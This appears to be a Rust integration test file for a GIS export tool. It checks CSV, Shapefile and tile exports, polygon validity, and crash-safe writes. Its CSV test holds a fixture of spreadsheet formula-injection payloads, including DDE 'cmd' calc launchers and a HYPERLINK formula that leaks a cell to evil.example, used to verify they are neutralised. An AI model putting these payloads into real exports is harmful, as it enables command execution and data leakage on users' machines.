//! Files planners open (issue 8 section 4), on the Bradford pack: CSV that
//! spreadsheets cannot be attacked through and that keeps numbers numeric,
//! Shapefiles with integer fields and an alias table, services tiles that
//! honour `category`, GEOS validity of every exported and served polygon
//! (shapely and GDAL), and exports that `kill -9` cannot leave half written.
//!
//! Needs python3 with shapely (`make fixtures`) and gdal-bin (`make qgis-deps`).

use std::collections::{BTreeSet, HashMap};
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::sync::{Arc, LazyLock};
use std::time::{Duration, Instant};

use axum::http::StatusCode;
use axum::Router;
use needmap::export::{self, ExportRequest, Format, OutputCrs};
use needmap::report::{Cell, Report};
use needmap::Engine;

static ENGINE: LazyLock<Arc<Engine>> = LazyLock::new(|| {
    let loc = needmap::dataset::locate(None).expect("the Bradford pack (../shared/geodata/bradford)");
    Arc::new(Engine::load(&loc).expect("Bradford loads"))
});
static APP: LazyLock<Router> =
    LazyLock::new(|| needmap::serve::build(ENGINE.clone(), PathBuf::from("/nonexistent-web"), "127.0.0.1:8080").unwrap());

const BIN: &str = env!("CARGO_BIN_EXE_needmap");
fn get(uri: &str) -> (StatusCode, Vec<u8>) {
    crate::common::oneshot_get(&APP, uri)
}

fn run(cmd: &str, args: &[&str]) -> String {
    let out = Command::new(cmd)
        .args(args)
        .output()
        .unwrap_or_else(|e| panic!("cannot run {cmd} (make fixtures installs shapely, make qgis-deps gdal-bin): {e}"));
    assert!(out.status.success(), "{cmd} {args:?} failed: {}", String::from_utf8_lossy(&out.stderr));
    String::from_utf8_lossy(&out.stdout).into_owned()
}

// ------------------------------------------------------------------ CSV

/// A table of real ward codes with the classic payloads as names and
/// genuine negative numbers.
fn payload_table() -> (Report, Vec<&'static str>) {
    let payloads = vec![
        "=cmd|' /C calc'!A0",
        "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click for details\")",
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+9)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "Tong & Holme Wood",
    ];
    let wards = &ENGINE.level("ward").unwrap().areas;
    let rows = payloads
        .iter()
        .zip(wards)
        .enumerate()
        .map(|(i, (p, a))| {
            vec![
                Cell::Text(Some(a.code.clone())),
                Cell::Text(Some(p.to_string())),
                Cell::Number(Some(-1.25 - i as f64)),
                Cell::Count(i as u64),
            ]
        })
        .collect();
    let report = Report { columns: vec!["code".into(), "name".into(), "gap_score".into(), "services_gp".into()], rows };
    (report, payloads)
}

#[test]
fn csv_neutralises_formula_payloads_but_not_negative_numbers() {
    let (table, payloads) = payload_table();
    let mut request = ExportRequest::new("ward");
    request.table = Some(table);
    let mut buf = Vec::new();
    export::write(&ENGINE, &request, Format::Csv, &mut buf).unwrap();
    let mut rdr = csv::Reader::from_reader(buf.as_slice());
    assert_eq!(rdr.headers().unwrap().iter().collect::<Vec<_>>(), ["code", "name", "gap_score", "services_gp"]);
    for (i, (rec, payload)) in rdr.records().zip(&payloads).enumerate() {
        let rec = rec.unwrap();
        let name = &rec[1];
        if payload.starts_with(['=', '+', '-', '@', '\t', '\r']) {
            assert_eq!(name, format!("'{payload}"), "payload not neutralised");
        } else {
            assert_eq!(name, *payload, "plain text changed");
        }
        // No field a spreadsheet would evaluate.
        for field in rec.iter().skip(1).take(1) {
            assert!(!field.starts_with(['=', '+', '@', '\t', '\r']), "{field:?}");
        }
        assert_eq!(rec[2].parse::<f64>().unwrap(), -1.25 - i as f64, "negative number corrupted: {:?}", &rec[2]);
        assert_eq!(&rec[3], i.to_string());
    }
}

#[test]
fn served_csv_keeps_numbers_numeric_and_flags_suppressed_counts() {
    let (status, body) = get("/api/export/oa.csv?threshold=200&bom=true");
    assert_eq!(status, StatusCode::OK);
    assert!(body.starts_with(export::csv::BOM));
    let mut rdr = csv::Reader::from_reader(&body[3..]);
    let headers: Vec<String> = rdr.headers().unwrap().iter().map(String::from).collect();
    let pop = headers.iter().position(|h| h == "population").unwrap();
    let flag = headers.iter().position(|h| h == "population_suppressed").expect("a flag column follows a suppressed column");
    assert_eq!(flag, pop + 1);
    let (mut suppressed, mut shown) = (0, 0);
    for rec in rdr.records() {
        let rec = rec.unwrap();
        match &rec[flag] {
            "1" => {
                assert_eq!(&rec[pop], "", "a suppressed count is an empty cell");
                suppressed += 1;
            }
            "0" => {
                let v: f64 = rec[pop].parse().unwrap_or_else(|_| panic!("population `{}` is not a number", &rec[pop]));
                assert!(v >= 200.0);
                shown += 1;
            }
            other => panic!("flag `{other}`"),
        }
        assert!(rec.iter().all(|f| !f.starts_with('<')), "text marker in a numeric column: {rec:?}");
    }
    assert!(suppressed > 0 && shown > 0, "{suppressed} suppressed, {shown} shown");
}

// ------------------------------------------------------------------ Shapefile

/// `name: Type (w.d)` of every field, from GDAL's ogrinfo.
fn ogr_fields(source: &str) -> HashMap<String, String> {
    run("ogrinfo", &["-ro", "-so", "-al", source])
        .lines()
        .filter_map(|l| {
            let (name, rest) = l.split_once(": ")?;
            let ty = rest.split_whitespace().next()?;
            matches!(ty, "Integer" | "Integer64" | "Real" | "String").then(|| (name.trim().to_string(), rest.trim().to_string()))
        })
        .collect()
}

#[test]
fn shapefile_integer_fields_are_integers_and_an_alias_table_travels_with_it() {
    let dir = tempfile::tempdir().unwrap();
    let mut request = ExportRequest::new("ward");
    request.crs = OutputCrs::Bng;
    let folder = dir.path().join("wards");
    let written = export::write_files(&ENGINE, &request, Format::Shapefile, &dir.path().join("wards.shp"), false).unwrap();
    let names: BTreeSet<String> = written.files.iter().map(|p| p.strip_prefix(&folder).unwrap().to_string_lossy().into_owned()).collect();
    let want: BTreeSet<String> = ["wards.shp", "wards.shx", "wards.dbf", "wards.prj", "wards.cpg", "wards.fields.csv", "wards.shp.provenance.json"]
        .map(String::from)
        .into();
    assert_eq!(names, want);

    let fields = ogr_fields(folder.to_str().unwrap());
    let aliases = std::fs::read_to_string(folder.join("wards.fields.csv")).unwrap();
    let mut rdr = csv::Reader::from_reader(aliases.as_bytes());
    assert_eq!(rdr.headers().unwrap().iter().collect::<Vec<_>>(), ["field", "column", "shortened"]);
    let alias: HashMap<String, String> = rdr.records().map(|r| r.unwrap()).map(|r| (r[1].to_string(), r[0].to_string())).collect();
    let report = needmap::report::area_report(&ENGINE, "ward").unwrap();
    assert_eq!(alias.len(), report.columns.len(), "one alias per column");
    let ty = |column: &str| fields.get(&alias[column]).unwrap_or_else(|| panic!("no field for {column}: {fields:?}")).clone();
    // Counts of services are whole numbers: GDAL reads them as Integer (not Integer64 or Real).
    let counts: Vec<&String> = report.columns.iter().filter(|c| c.starts_with("services_") && !c.contains("_per_")).collect();
    assert!(!counts.is_empty(), "{:?}", report.columns);
    for column in counts {
        assert!(ty(column).starts_with("Integer ("), "{column}: {}", ty(column));
    }
    assert!(ty("imd_score").starts_with("Real"), "imd_score: {}", ty("imd_score"));
    assert!(ty("code").starts_with("String"));
    // Every whole-number column is an integer field.
    for (c, column) in report.columns.iter().enumerate() {
        let whole = report.rows.iter().all(|r| match &r[c] {
            Cell::Count(_) | Cell::Number(None) => true,
            Cell::Number(Some(v)) => v.fract() == 0.0,
            Cell::Text(_) => false,
        });
        let any = report.rows.iter().any(|r| !matches!(r[c], Cell::Number(None)));
        if whole && any {
            assert!(ty(column).starts_with("Integer"), "{column} holds whole numbers but is {}", ty(column));
        }
    }

    // The served zip holds the same set, and GDAL reads it in place.
    let (status, zip) = get("/api/export/ward.zip?crs=bng");
    assert_eq!(status, StatusCode::OK);
    let zip_path = dir.path().join("served.zip");
    std::fs::write(&zip_path, &zip).unwrap();
    let mut archive = zip::ZipArchive::new(std::io::Cursor::new(zip)).unwrap();
    let inside: BTreeSet<String> = (0..archive.len()).map(|i| archive.by_index(i).unwrap().name().unwrap().to_string()).collect();
    assert!(inside.contains("needmap-ward.fields.csv"), "{inside:?}");
    let zfields = ogr_fields(&format!("/vsizip/{}", zip_path.display()));
    assert_eq!(zfields, fields, "the zip and the folder have the same fields");

    // `-o x.zip` on the command line writes one zip that GDAL opens as a Shapefile.
    let cli_zip = dir.path().join("wards.shp.zip");
    export::write_files(&ENGINE, &request, Format::Shapefile, &cli_zip, false).unwrap();
    let info = run("ogrinfo", &["-ro", "-so", cli_zip.to_str().unwrap()]);
    assert!(info.contains("wards") && info.contains("Polygon"), "{info}");
}

// ------------------------------------------------------------------ services tiles

/// Every string value of `key` in the first layer of an MVT.
fn tile_strings(body: &[u8], key: &str) -> BTreeSet<String> {
    use geozero::mvt::{Message, Tile};
    let tile = Tile::decode(body).expect("an MVT");
    let mut out = BTreeSet::new();
    for layer in &tile.layers {
        let k = layer.keys.iter().position(|k| k == key).expect("key present") as u32;
        for f in &layer.features {
            for pair in f.tags.chunks(2) {
                if pair[0] == k {
                    out.insert(layer.values[pair[1] as usize].string_value.clone().unwrap_or_default());
                }
            }
        }
    }
    out
}

#[test]
fn services_tiles_honour_category_and_tier_and_refuse_unknown_ones() {
    // z10 tile over central Bradford.
    let (z, x, y) = (10, 507, 329);
    let uri = |q: &str| format!("/tiles/services/{z}/{x}/{y}.mvt{q}");
    let (status, all) = get(&uri(""));
    assert_eq!(status, StatusCode::OK);
    let categories = tile_strings(&all, "category");
    assert!(categories.len() > 2 && categories.contains("gp"), "{categories:?}");
    let (status, gp) = get(&uri("?category=gp"));
    assert_eq!(status, StatusCode::OK);
    assert_eq!(tile_strings(&gp, "category"), BTreeSet::from(["gp".to_string()]));
    assert!(gp.len() < all.len());
    let (status, two) = get(&uri("?category=gp,pharmacy"));
    assert_eq!(status, StatusCode::OK);
    assert_eq!(tile_strings(&two, "category"), BTreeSet::from(["gp".to_string(), "pharmacy".to_string()]));
    // The unfiltered tile is unchanged after filtered ones were cached.
    assert_eq!(get(&uri("")).1, all);

    let tiers = tile_strings(&all, "tier");
    let tier = tiers.iter().next().unwrap().clone();
    let (status, one_tier) = get(&uri(&format!("?tier={tier}")));
    assert_eq!(status, StatusCode::OK);
    assert_eq!(tile_strings(&one_tier, "tier"), BTreeSet::from([tier]));

    for (q, parameter) in [("?category=nonsense", "category"), ("?category=gp,nonsense", "category"), ("?tier=nonsense", "tier")] {
        for u in [uri(q), format!("/tiles/services.json{q}")] {
            let (status, body) = get(&u);
            assert_eq!(status, StatusCode::BAD_REQUEST, "{u}");
            let err: serde_json::Value = serde_json::from_slice(&body).unwrap();
            assert_eq!(err["parameter"], parameter, "{u}: {err}");
            assert!(err["message"].as_str().unwrap().contains("nonsense"), "{err}");
        }
    }
    // The TileJSON of a filtered layer points at filtered tiles.
    let (status, tj) = get("/tiles/services.json?category=gp");
    assert_eq!(status, StatusCode::OK);
    let tj: serde_json::Value = serde_json::from_slice(&tj).unwrap();
    assert!(tj["tiles"][0].as_str().unwrap().ends_with("/tiles/services/{z}/{x}/{y}.mvt?category=gp"), "{tj}");
    // `/tiles/{layer}` (QGIS's one-URL connection) gives tile URLs relative to itself.
    let (status, doc) = get("/tiles/ward?f=pjson");
    assert_eq!(status, StatusCode::OK);
    let doc: serde_json::Value = serde_json::from_slice(&doc).unwrap();
    assert_eq!(doc["tiles"][0], "{z}/{x}/{y}.mvt");
    assert_eq!(doc["maxzoom"], 15);
    assert_eq!(get("/tiles/nonsense").0, StatusCode::NOT_FOUND);
}

// ------------------------------------------------------------------ GEOS validity

#[derive(serde::Deserialize)]
struct Validity {
    features: usize,
    polygons: usize,
    invalid: Vec<(String, String)>,
}

fn shapely_validity(files: &[PathBuf]) -> HashMap<String, Validity> {
    let script = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/validity/check_valid.py");
    let mut args = vec![script.to_string_lossy().into_owned()];
    args.extend(files.iter().map(|f| f.to_string_lossy().into_owned()));
    let args: Vec<&str> = args.iter().map(String::as_str).collect();
    serde_json::from_str(&run("python3", &args)).unwrap()
}

#[test]
fn every_exported_and_served_polygon_is_valid_in_geos() {
    let dir = tempfile::tempdir().unwrap();
    let mut files = Vec::new();
    let mut expected = HashMap::new();
    for level in &ENGINE.levels {
        let id = &level.id;
        let request = ExportRequest::new(id);
        let geojson = dir.path().join(format!("{id}.geojson"));
        export::write_files(&ENGINE, &request, Format::Geojson, &geojson, false).unwrap();
        let mut bng = request.clone();
        bng.crs = OutputCrs::Bng;
        let shp_wgs = dir.path().join(format!("{id}-wgs84"));
        export::write_files(&ENGINE, &request, Format::Shapefile, &shp_wgs, false).unwrap();
        let shp_bng = dir.path().join(format!("{id}-bng.zip"));
        export::write_files(&ENGINE, &bng, Format::Shapefile, &shp_bng, false).unwrap();
        let mut served = Vec::new();
        for (name, uri) in [
            ("served", format!("/api/areas/{id}.geojson")),
            ("export-api", format!("/api/export/{id}.geojson")),
            ("ogc", format!("/ogc/collections/{id}/items?limit=10000")),
        ] {
            let (status, body) = get(&uri);
            assert_eq!(status, StatusCode::OK, "{uri}");
            let path = dir.path().join(format!("{id}-{name}.geojson"));
            std::fs::write(&path, body).unwrap();
            served.push(path);
        }
        for f in [geojson, shp_wgs, shp_bng].into_iter().chain(served) {
            expected.insert(f.to_string_lossy().into_owned(), level.len());
            files.push(f);
        }
    }
    let report = shapely_validity(&files);
    let mut problems = Vec::new();
    for (file, n) in &expected {
        let v = report.get(file).unwrap_or_else(|| panic!("{file} not checked"));
        assert_eq!((v.features, v.polygons), (*n, *n), "{file}: every area is a polygon feature");
        for (id, reason) in &v.invalid {
            problems.push(format!("{file}: {id}: {reason}"));
        }
    }
    assert!(problems.is_empty(), "{} invalid polygon(s):\n{}", problems.len(), problems.join("\n"));
}

/// GDAL reads the squares of where people live as polygons in CRS84 with
/// numeric gap fields, one feature per square shown (`/api/grid.geojson`).
#[test]
fn gdal_reads_the_squares_of_where_people_live() {
    let (status, body) = get("/api/grid.geojson?category=family_hub&method=nearest&cell=1000");
    assert_eq!(status, StatusCode::OK);
    let doc: serde_json::Value = serde_json::from_slice(&body).unwrap();
    let n = doc["features"].as_array().unwrap().len();
    assert!(n > 100, "{n} squares of 1 km");
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("squares.geojson");
    std::fs::write(&path, &body).unwrap();
    let info = run("ogrinfo", &["-ro", "-so", "-al", path.to_str().unwrap()]);
    assert!(info.contains("Geometry: Multi Polygon") || info.contains("Geometry: Polygon"), "{info}");
    assert!(info.contains(&format!("Feature Count: {n}")), "{info}");
    assert!(info.contains("WGS 84"), "{info}");
    let fields = ogr_fields(path.to_str().unwrap());
    for (field, kind) in [("population", "Real"), ("nearest_min", "Real"), ("unmet_need", "Real"), ("gap_rank", "Integer"), ("size_m", "Integer"), ("gap_class", "String")] {
        assert!(fields.get(field).is_some_and(|t| t.starts_with(kind)), "{field}: {:?}", fields.get(field));
    }
    let report = shapely_validity(std::slice::from_ref(&path));
    let v = &report[&path.to_string_lossy().into_owned()];
    assert_eq!((v.features, v.polygons), (n, n));
    assert!(v.invalid.is_empty(), "{:?}", v.invalid);
}

// ------------------------------------------------------------------ interrupted writes

/// Names in `dir`, hidden ones included.
fn entries(dir: &Path) -> Vec<String> {
    let mut v: Vec<String> = std::fs::read_dir(dir).unwrap().map(|e| e.unwrap().file_name().to_string_lossy().into_owned()).collect();
    v.sort();
    v
}

fn export_cmd(format: &str, out: &Path) -> Command {
    let mut c = Command::new(BIN);
    c.args(["export", "--level", "oa", "--format", format, "--force", "-o"]).arg(out).stdout(Stdio::null()).stderr(Stdio::null());
    c
}

/// Run `cmd` to completion and return how long it took.
fn time_run(mut cmd: Command) -> Duration {
    let t = Instant::now();
    assert!(cmd.status().unwrap().success());
    t.elapsed()
}

/// Start `cmd`, kill -9 it after `after`; true when it was still running.
fn kill_after(mut cmd: Command, after: Duration) -> bool {
    let mut child = cmd.spawn().unwrap();
    std::thread::sleep(after);
    let running = child.try_wait().unwrap().is_none();
    let _ = child.kill();
    let _ = child.wait();
    running
}

/// Start `cmd`, wait until it is writing (a temporary file appears in
/// `dir`), kill -9 it `after` that; true when it was killed while writing.
fn kill_while_writing(mut cmd: Command, dir: &Path, after: Duration) -> bool {
    let mut child = cmd.spawn().unwrap();
    let t = Instant::now();
    let writing = || entries(dir).iter().any(|n| n.ends_with(export::atomic::PARTIAL_SUFFIX));
    while !writing() && child.try_wait().unwrap().is_none() && t.elapsed() < Duration::from_secs(120) {
        std::thread::sleep(Duration::from_micros(500));
    }
    std::thread::sleep(after);
    let running = child.try_wait().unwrap().is_none();
    let _ = child.kill();
    let _ = child.wait();
    running
}

#[test]
fn kill_9_during_writes_leaves_no_partial_or_incomplete_output() {
    let dir = tempfile::tempdir().unwrap();
    let geojson = dir.path().join("oa.geojson");
    let folder = dir.path().join("oa");
    let full = time_run(export_cmd("geojson", &geojson));
    let full_shp = time_run(export_cmd("shapefile", &folder));
    let shp_files = entries(&folder);
    assert_eq!(shp_files.len(), 7, "{shp_files:?}");
    let complete = std::fs::read(&geojson).unwrap();
    std::fs::remove_file(&geojson).unwrap();
    std::fs::remove_dir_all(&folder).unwrap();

    // Kills while the files are being written (0-30 ms after the first
    // temporary file appears), and once at a random point of a whole run.
    const KILLS: u32 = 12;
    let mut killed = (0, 0);
    for i in 0..KILLS {
        let after = Duration::from_millis(u64::from(i % 4) * 10);
        if kill_while_writing(export_cmd("geojson", &geojson), dir.path(), after) {
            killed.0 += 1;
        }
        let visible: Vec<String> = entries(dir.path()).into_iter().filter(|n| !n.starts_with('.')).collect();
        assert!(visible.is_empty() || visible == ["oa.geojson"], "{visible:?}");
        if geojson.exists() {
            assert_eq!(std::fs::read(&geojson).unwrap().len(), complete.len(), "kill {i}: oa.geojson is partial");
            std::fs::remove_file(&geojson).unwrap();
        }
        if kill_while_writing(export_cmd("shapefile", &folder), dir.path(), after) {
            killed.1 += 1;
        }
        if folder.exists() {
            assert_eq!(entries(&folder), shp_files, "kill {i}: the Shapefile folder is incomplete");
            std::fs::remove_dir_all(&folder).unwrap();
        }
        let visible: Vec<String> = entries(dir.path()).into_iter().filter(|n| !n.starts_with('.')).collect();
        assert!(visible.is_empty(), "kill {i}: {visible:?}");
    }
    assert!(killed.0 >= KILLS / 2 && killed.1 >= KILLS / 2, "too few kills landed while writing: {killed:?} (runs of {full:?} and {full_shp:?})");
    // A kill anywhere in a run (loading included) leaves nothing visible either.
    kill_after(export_cmd("geojson", &geojson), full / 2);
    assert!(!geojson.exists() || std::fs::read(&geojson).unwrap().len() == complete.len());
    let _ = std::fs::remove_file(&geojson);
    // The next run sweeps every temporary file the kills left.
    assert!(export_cmd("geojson", &geojson).status().unwrap().success());
    assert!(export_cmd("shapefile", &folder).status().unwrap().success());
    assert_eq!(entries(dir.path()), ["oa", "oa.geojson"]);
    assert_eq!(std::fs::read(&geojson).unwrap().len(), complete.len());
    eprintln!("kill -9: {} GeoJSON and {} Shapefile runs killed while running (runs take {full:?} and {full_shp:?})", killed.0, killed.1);
}

#[test]
fn an_interrupted_all_committees_run_is_marked_and_a_rerun_needs_force() {
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("committees");
    let cmd = |force: bool| {
        let mut c = Command::new(BIN);
        c.args(["print", "--level", "ward", "--all-committees", "--format", "svg", "-o"]).arg(&out).stdout(Stdio::null()).stderr(Stdio::piped());
        if force {
            c.arg("--force");
        }
        c
    };
    let full = time_run(cmd(false));
    let marker = out.join("INCOMPLETE-run-interrupted.txt");
    assert!(!marker.exists(), "a finished run leaves no marker");
    assert_eq!(entries(&out).len(), 5);
    // Kill a forced rerun as soon as it has started writing maps.
    let mut child = cmd(true).spawn().unwrap();
    let t = Instant::now();
    while !marker.exists() && child.try_wait().unwrap().is_none() && t.elapsed() < full * 20 {
        std::thread::sleep(Duration::from_millis(2));
    }
    let running = child.try_wait().unwrap().is_none();
    let _ = child.kill();
    let _ = child.wait();
    assert!(running && marker.exists(), "no kill landed while maps were being written (a run takes {full:?})");
    let note = std::fs::read_to_string(&marker).unwrap();
    assert!(note.contains("has not finished") && note.contains("--force"), "{note}");
    let again = cmd(false).output().unwrap();
    assert!(!again.status.success());
    let err = String::from_utf8_lossy(&again.stderr);
    assert!(err.contains("interrupted") && err.contains("--force"), "{err}");
    assert!(cmd(true).status().unwrap().success());
    assert!(!marker.exists());
    assert_eq!(entries(&out).len(), 5, "{:?}", entries(&out));
}
